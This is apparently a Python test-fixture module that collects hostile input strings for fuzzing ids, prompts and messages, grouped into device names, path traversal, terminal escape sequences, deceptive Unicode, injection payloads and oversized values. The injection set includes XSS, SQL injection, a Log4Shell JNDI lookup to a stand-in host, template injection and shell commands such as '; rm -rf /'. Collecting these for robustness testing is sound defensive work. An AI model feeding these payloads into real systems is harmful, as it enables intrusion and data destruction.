"""Hostile strings for ids, prompts and messages."""

from __future__ import annotations

_DEVICES = (
    "CON",
    "con",
    "PRN",
    "AUX",
    "NUL",
    "nul.txt",
    "COM1",
    "LPT9",
    "CONIN$",
    "com1.png",
    "COM\N{SUPERSCRIPT ONE}",
)
_PATHS = (
    "..", ".", "../..", "../../etc/passwd", "/etc/passwd", "/", "//", "\\\\host\\share", "..\\..\\evil", "C:\\evil",
    "C:evil", "a/b", "a\\b", "a/../../b", "~", "~root", "~/.ssh", "$HOME", "%TEMP%", "%2e%2e%2f", "..%c0%af", "a.",
    "a ", " a", ".a", "-rf", "--output=/", "a:stream", "a::$DATA", "file:///etc/passwd", "\N{FULLWIDTH FULL STOP}.",
    "\N{ONE DOT LEADER}\N{ONE DOT LEADER}/", "\N{FRACTION SLASH}etc", "item.json", "final.png", "partial-000.png",
    ".imgassemble-0.tmp", "*", "?", "a|b", "<a>", '"a"', "a\nb", "CON ",
)  # fmt: skip
_CONTROLS = (
    "", " ", "\0", "a\0b", "\a", "\b\b\b\b", "\t", "\n", "\r", "\r\n", "a\rb", "\x1b", "\x7f", "\x85", "\x9b31m",
    "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;title\a", "\x1b]8;;https://evil.example\a", "\x1b]52;c;ZXZpbA==\a",
    "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b_Gf=100;AAAA\x1b\\", "\x9d0;title\x9c", "\x90q\x9c", "\x1bc",
    "".join(map(chr, range(32))), "".join(map(chr, range(127, 160))), "\N{LINE SEPARATOR}", "\N{PARAGRAPH SEPARATOR}",
)  # fmt: skip
_LETTERS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe", "\N{LEFT-TO-RIGHT ISOLATE}a\N{POP DIRECTIONAL ISOLATE}",
    "\N{ARABIC LETTER MARK}", "\N{ZERO WIDTH SPACE}",
    "a\N{ZERO WIDTH JOINER}b", "\ufeffa", "a\N{SOFT HYPHEN}b", "\ufff9a\ufffab\ufffb",
    "\N{TAG LATIN SMALL LETTER A}\N{CANCEL TAG}", "\ud800", "\udfff", "a\ud83db", "\udcff", "\uffff", "\U0010ffff",
    "e\N{COMBINING ACUTE ACCENT}", "\N{LATIN SMALL LETTER E WITH ACUTE}", "Z\u0335\u0321\u034f" * 9, "\N{KELVIN SIGN}",
    "\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}", "\N{LATIN SMALL LETTER SHARP S}", "stra\u00dfe", "STRASSE", "\u0130",
    "\U0001f9a6", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u0663", "\u6c34\u736d",
    "\u0645\u0631\u062d\u0628\u0627", "\ufdfd", "IG_1", "ig_1", "Ig_1",
)  # fmt: skip
_PROGRAMS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "</title><svg onload=alert(1)>",
    "' OR 1=1; --", "Robert'); DROP TABLE items;--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0.__class__}",
    "%s%s%n", "%(message)s", "$(reboot)", "`reboot`", "; rm -rf /", "| cat", "=cmd|'/c calc'!A0", "__proto__", "null",
    "NaN", "undefined", "true", "0", "-1", "1e999", "data: {}", "event: error", "[DONE]", "data:image/png;base64,AAAA",
)  # fmt: skip
_LONG = ("x" * 100, "x" * 101, "x" * 255, "x" * 256, "x" * 4_096, "\u00e9" * 200, "\U0001f9a6" * 90, "../" * 1_000,
         "a." * 60, "-" * 120, "\0" * 300, "AB+/" * 200)  # fmt: skip

NAUGHTY = tuple(dict.fromkeys((*_DEVICES, *_PATHS, *_CONTROLS, *_LETTERS, *_PROGRAMS, *_LONG)))
